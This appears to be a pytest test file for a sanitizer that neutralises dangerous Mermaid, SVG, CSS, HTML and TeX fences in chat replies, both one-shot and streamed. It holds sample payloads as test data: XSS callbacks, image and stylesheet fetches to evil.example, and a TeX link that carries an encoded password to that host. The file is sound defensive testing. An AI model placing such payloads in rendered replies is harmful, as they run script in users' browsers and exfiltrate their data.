"""Fences a chat UI renders (`Policy.rendered_fences`): judged as what they become when
declared, left as code when not, and held whole by a stream.

The cases are tests/fixtures/rendered/*.md, one file per language, and `readings.md`
for fences some renderer reads as prose (their expected
outputs, reasons, idempotence and stream == one-shot run with every fixture); what
the real renderers make of them is tests/test_rendered_fences_live.py.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import policy_for
from fixture_files import FIXTURES, Case, read_cases
from rendersafe import Construct, Finding, Policy, PolicyError, Sanitizer
from rendersafe.config import load_policy
from rendersafe.engine.rendered import info_language
from rendersafe.findings import Reason
from rendersafe.policy import RENDERED_FENCES

RENDERED = FIXTURES / "rendered"
CASES = [case for path in sorted(RENDERED.glob("*.md")) for case in read_cases(path)]
ATTACKS = [case for case in CASES if not case.benign]
POLICY = policy_for(RENDERED)
DECLARED = Sanitizer(POLICY)
UNDECLARED = Sanitizer(POLICY.model_copy(update={"rendered_fences": ()}))
# Fences every renderer reads as code (`readings.md` holds those some read as prose).
CODE = [case for case in CASES if case.path.stem != "readings"]
FENCED = [c for c in ATTACKS if c.input.startswith("```")]


def test_at_least_forty_attacks_from_every_language() -> None:
    by_file: dict[str, int] = {}
    for case in ATTACKS:
        by_file[case.path.stem] = by_file.get(case.path.stem, 0) + 1
    assert len([c for c in ATTACKS if c in CODE]) >= 40
    assert all(by_file.get(name, 0) >= 4 for name in ("html", "svg", "css", "mermaid", "tex"))
    # Honest fences in every language stay byte for byte (`<unchanged>` cases).
    assert {c.path.stem for c in CASES if c.benign} >= {"html", "svg", "css", "mermaid", "tex"}


@pytest.mark.parametrize("case", CODE, ids=[c.id for c in CODE])
def test_undeclared_languages_stay_code(case: Case) -> None:
    """The same policy without `rendered_fences`: every case, attack or not, comes back
    byte for byte (a code answer's fences are code; `readings.md`'s are not code to
    every renderer, and were judged before)."""
    result = UNDECLARED.run(case.input, conversation=case.conversation)
    assert result.text == case.input
    assert result.findings == ()


@pytest.mark.parametrize("case", [c for c in CODE if not c.benign], ids=lambda c: c.id)
def test_findings_name_the_fence_and_its_language(case: Case) -> None:
    result = DECLARED.run(case.input, conversation=case.conversation)
    openers = [line.strip("`") for line in case.input.splitlines() if line.startswith("```")]
    languages = {info_language(opener) for opener in openers if opener}
    assert result.findings
    for finding in result.findings:
        assert finding.kind == Construct.RENDERED_FENCE
        language = (finding.detail or "").partition(":")[0]
        assert language in (languages or {"$$"}), (finding.detail, languages)


@pytest.mark.parametrize("case", FENCED, ids=[c.id for c in FENCED])
def test_a_stream_holds_the_fence_until_it_closes(case: Case) -> None:
    """Fed a character at a time, the stream sends nothing of the fence (from its opening
    backticks) before its closing line has arrived: LibreChat renders a Mermaid fence
    while it streams, and a fence judged whole may lose its first line."""
    text = case.input
    closing = text.rindex("```") + 3
    stream, sent = DECLARED.stream(conversation=case.conversation), ""
    for at, char in enumerate(text):
        sent += stream.feed(char)
        if at < closing - 1:
            assert sent == "", (at, sent)
    sent += stream.close()
    assert sent == case.expected


def test_math_in_prose_is_held_from_a_macro_that_may_fetch() -> None:
    text = "The rate is\n\n$$\\def\\h{\\href}\\h{https://evil.example/x}{y}$$\n\nand more.\n"
    stream, sent = DECLARED.stream(), ""
    for char in text[: text.index("$$\n\nand")]:
        sent += stream.feed(char)
    assert sent.startswith("The rate is")
    assert "\\def" not in sent
    sent += stream.feed(text[text.index("$$\n\nand") :]) + stream.close()
    assert sent == DECLARED.run(text).text
    assert "\\def" not in sent


LONG = Sanitizer(POLICY.model_copy(update={"max_hold_chars": 256}))


@pytest.mark.parametrize("size", [1, 7, 64])
def test_a_fence_past_the_hold_limit_is_shown_as_code(size: int) -> None:
    """A rendered fence longer than `max_hold_chars` cannot be judged whole (a construct
    a cut splits is in neither piece), so no UI may render it: its language becomes
    `text`, its lines stay byte for byte, the stream equals one-shot, and a second run
    changes nothing."""
    lines = "".join(f"  N{i}[Step {i}] --> N{i + 1}[Step {i + 1}]\n" for i in range(20))
    text = (
        '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\ngraph TD\n'
        + lines
        + "  click N3 call alert(1)\n"
        + lines
        + "  N1[\"<img src='https://evil.example/late.png'>\"]\n```\n\nAfter.\n"
    )
    expected = LONG.run(text)
    assert expected.text == text.replace("```mermaid", "```text", 1)
    assert [(f.kind, f.reasons) for f in expected.findings] == [
        (Construct.RENDERED_FENCE, (Reason.HOLD_LIMIT,))
    ]
    stream = LONG.stream()
    out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size))
    assert out + stream.close() == expected.text
    assert stream.findings == expected.findings
    assert LONG.run(expected.text).text == expected.text


@pytest.mark.parametrize(
    ("fence", "body"),
    [
        ("~~~css", "@import 'https://evil.example/c.css';"),  # the cut at its space
        ("```mermaid", "click A call alert(document.domain)"),
        ("> ```css", "> a{b:url(https://evil.example/c.png)}"),
        ("- ~~~svg", "  <image href=https://evil.example/a.png />"),
    ],
)
def test_a_construct_a_forced_cut_splits_in_a_rendered_fence_is_never_rendered(
    fence: str, body: str
) -> None:
    """Each piece of a fence past the hold limit was judged alone, and a construct the
    cut split (`@import` | `'https://...'`) was in neither: the fence is shown as code."""
    lead = fence[: len(fence) - len(fence.lstrip("> -"))].replace("-", " ")
    filler = (lead + "x" * 40 + "\n") * 5
    text = fence + "\n" + filler + lead + "y" * 30 + " " + body.lstrip("> ") + "\n"
    result = LONG.run(text)
    language = fence.lstrip("> -`~")
    assert result.text.startswith(fence.replace(language, "text") + "\n" + filler)
    if not fence.startswith("-"):  # in a list item, the pieces after it read as its text
        assert result.text == text.replace(language, "text", 1)
    stream = LONG.stream()
    assert "".join(stream.feed(c) for c in text) + stream.close() == result.text
    assert LONG.run(result.text).text == result.text


@pytest.mark.parametrize("size", [1, 4, 97])
def test_the_rest_of_a_fence_past_the_hold_limit_is_held_like_its_start(size: int) -> None:
    """A piece of a rendered fence after a forced cut holds no fence line of its own:
    plain words (`A-->B`, `click A call f()`) were sent as they came, and the one-shot
    answer, which keeps what a stream sent, kept the callbacks too, rendered. The stream
    holds the fence from its opening line, which its first piece shows as code."""
    text = (
        "```mermaid\ngraph TD\n"
        + "A-->B\n" * 200
        + 'click A call alert(document.domain)\nclick B href "javascript:alert(1)"\n'
        + "B-->C\n" * 60
        + "```\n\nAfter.\n"
    )
    expected = LONG.run(text)
    assert expected.text == text.replace("```mermaid", "```text", 1)
    stream = LONG.stream()
    out = "".join(stream.feed(text[i : i + size]) for i in range(0, len(text), size))
    assert out + stream.close() == expected.text
    assert LONG.run(expected.text).text == expected.text


@pytest.mark.parametrize(
    "macro", ["\\includegraphics{https://evil.example/x.png}", "\\href{javascript:alert(1)}{a}"]
)
@pytest.mark.parametrize("at", range(236, 256, 3))
def test_a_tex_macro_a_forced_cut_splits_in_prose_math_goes(macro: str, at: int) -> None:
    """With math in prose rendered, a cut inside a fetching macro's name or argument
    (`\\includegraph` | `ics{...}`, `\\href{ja` | `vascript:...}`) left neither piece
    holding the macro and its argument: the piece before the cut loses it."""
    sanitizer = Sanitizer(Policy(max_hold_chars=256, rendered_fences=["$$"]))
    text = "$$\n" + "x" * at + macro + "\n$$\n"
    result = sanitizer.run(text)
    assert "\\includegraphics{" not in result.text
    assert "\\href{" not in result.text
    stream = sanitizer.stream()
    assert "".join(stream.feed(c) for c in text) + stream.close() == result.text


def test_the_policy_reads_rendered_fences_from_toml_and_the_environment(tmp_path: Path) -> None:
    path = tmp_path / "p.toml"
    path.write_text('rendered_fences = ["HTML", "mermaid", "$$"]\n')
    assert load_policy(path, environ={}).rendered_fences == ("html", "mermaid", "$$")
    environ = {"RENDERSAFE_RENDERED_FENCES": "svg,math"}
    assert load_policy(environ=environ).rendered_fences == ("svg", "math")
    assert Policy().rendered_fences == ()
    with pytest.raises(PolicyError, match=r"rendered_fences.*jsx"):
        Policy(rendered_fences=["html", "jsx"])
    assert set(RENDERED_FENCES) >= {"html", "htm", "xhtml", "svg", "mermaid", "math", "latex", "$$"}


_PIECES = (
    "```mermaid\n", "```svg\n", "```html\n", "```math\n", "```css\n", "```\n", "~~~svg\n",
    "\n\n", "text ", "  ", "<img src=https://evil.example/x.png>", "click A call f()\n",
    '%%{init: {"securityLevel": "loose"}}%%\n', "A[\"<b onclick=x>b</b>\"]\n",
    "\\href{https://evil.example/?d=dGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIy}{x}",
    "\\def\\h{\\href}", "$$", "<image href='//evil.example/i.png'/>", "<svg>", "</svg>",
    "background:url(https://evil.example/u.png);", "<style>", "</style>", "> ", "- ",
    "<!--", "-->", "[a](https://docs.example.com/x)", "`", "\\includegraphics{x}",
)  # fmt: skip


def placed(findings: tuple[Finding, ...]) -> list[Finding]:
    """`findings` without `recheck`: whether a pass found a construct on its first
    reading or on re-reading its own output depends on where the text was cut into
    units, which a stream decides by what has arrived; the rest must be the same."""
    return [finding.model_copy(update={"recheck": False}) for finding in findings]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(_PIECES), max_size=24).map("".join), st.data())
def test_rendered_soup_settles_and_streams_as_one_shot(text: str, data: st.DataObject) -> None:
    expected = DECLARED.run(text)
    assert DECLARED.run(expected.text).text == expected.text
    sizes = data.draw(st.lists(st.integers(1, 9), min_size=1, max_size=8))
    stream, out, at = DECLARED.stream(), list[str](), 0
    while at < len(text):
        size = sizes[len(out) % len(sizes)]
        out.append(stream.feed(text[at : at + size]))
        at += size
    out.append(stream.close())
    assert "".join(out) == expected.text
    assert placed(stream.findings) == placed(expected.findings)


@pytest.mark.parametrize(
    "text",
    [
        # found by the property above in CI: a quoted fence, its blank lines, a tag
        "> ```mermaid\n\n\n<image href='//evil.example/i.png'/>",
        "x ```css\n\n\nbody { background: url(https://evil.example/a.png) }\n",
        '- ```mermaid\n\n\ngraph TD\nA-->B\nclick A "javascript:alert(1)"\n',
        "See https://ok.example\n\nx ```css\n\n\nbody { background: url(//evil.example/a) }",
        # the run is inside a tilde fence, which closes: the pattern's fence does not
        "~~~md\nnotes\nx ```svg\n~~~\n\n<svg><image href='//evil.example/i.png'/></svg>\n",
    ],
)
def test_a_fence_found_by_pattern_holds_its_unit_open_to_the_next_run(text: str) -> None:
    """Open WebUI's artifact pattern reads from any three backticks, anywhere in a
    line, to the next three: no unit may end between them, or what the fence holds is
    judged as prose alone, in one shot and in a stream."""
    expected = DECLARED.run(text)
    assert "evil" not in expected.text
    assert "javascript" not in expected.text
    assert any(f.kind is Construct.RENDERED_FENCE for f in expected.findings)
    stream = DECLARED.stream()
    out = "".join(stream.feed(char) for char in text) + stream.close()
    assert out == expected.text
    assert placed(stream.findings) == placed(expected.findings)


def test_a_forced_cut_inside_a_fence_found_by_pattern_shows_it_as_code() -> None:
    """A fence only a pattern-reading UI finds (three backticks mid-line to the next),
    longer than the hold limit: its run pairs with one after the cut, so it is shown as
    code like a fence markdown-it reads (its language `text`)."""
    sanitizer = Sanitizer(POLICY.model_copy(update={"max_hold_chars": 1024}))
    rules = "".join(f".c{i} {{ color: red }}\n" for i in range(200))
    text = f"Styles ```css\n\n{rules}body {{ background: url(https://evil.example/a.png) }}\n"
    expected = sanitizer.run(text)
    assert expected.text == text.replace("```css", "```text", 1)
    assert [f.kind for f in expected.findings] == [Construct.RENDERED_FENCE]
    stream = sanitizer.stream()
    out = "".join(stream.feed(text[at : at + 97]) for at in range(0, len(text), 97))
    assert out + stream.close() == expected.text


@pytest.mark.parametrize(
    ("text", "starts"),
    [
        # the pass's finding came before the TeX macro's
        ("\\def\\h{\\href}\n\n<img src=https://evil.example/x.png>", [0, 15]),
        # a second pass found the tag in the first pass's output, 17 characters shorter
        ("\\includegraphics{x}\n\n```mermaid\n<style>", [0, 32]),
    ],
)
def test_findings_are_placed_in_the_reply_s_text_streamed_or_not(
    text: str, starts: list[int]
) -> None:
    """One unit in one shot, two in a stream (both found by the soup above): the
    findings are in the order of the reply's text and at its places, in both."""
    expected = DECLARED.run(text)
    assert [f.start for f in expected.findings] == starts
    stream = DECLARED.stream()
    for char in text:
        stream.feed(char)
    stream.close()
    assert placed(stream.findings) == placed(expected.findings)
